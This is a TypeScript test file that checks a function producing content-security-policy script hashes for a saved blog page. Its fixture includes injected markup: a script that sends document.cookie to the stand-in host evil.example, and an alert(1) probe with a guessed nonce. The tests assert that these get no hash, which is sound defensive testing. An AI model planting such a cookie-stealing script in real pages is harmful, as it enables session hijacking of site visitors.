import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { inlineScriptHashes } from './kept-page.ts';

const hash = (text: string) => `${createHash('sha256').update(text, 'utf8').digest('base64')}`;

describe('the script hashes of a kept blog page', () => {
  const nonce = 'render0123456789abcdef';
  const app = 'window.__reactRouterContext = {"state":{}};';
  const added = 'import("/assets/entry.js")';
  const rendered = [
    '<html><head>',
    `<script nonce="${nonce}">${app}</script>`,
    `<script nonce="${nonce}">const script = document.createElement("script"); script.textContent = ${JSON.stringify(added)};</script>`,
    `<script nonce="${nonce}" type="module" src="/assets/root.js"></script>`,
    '</head><body><article>',
    // Markup that reached a post's stored content past the sanitizer (or by a direct edit).
    '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
    '<script nonce="guessed">alert(1)</script>',
    '</article></body></html>',
  ].join('');

  it("allows the render's own inline scripts and the scripts they add", () => {
    const hashes = inlineScriptHashes(rendered, nonce);
    expect(hashes).toContain(hash(app));
    expect(hashes).toContain(hash(added));
  });

  it('gives no hash to an inline script the render did not write', () => {
    const hashes = inlineScriptHashes(rendered, nonce);
    expect(hashes).not.toContain(hash('fetch("https://evil.example/?c=" + document.cookie)'));
    expect(hashes).not.toContain(hash('alert(1)'));
    expect(hashes).toHaveLength(3);
  });
});
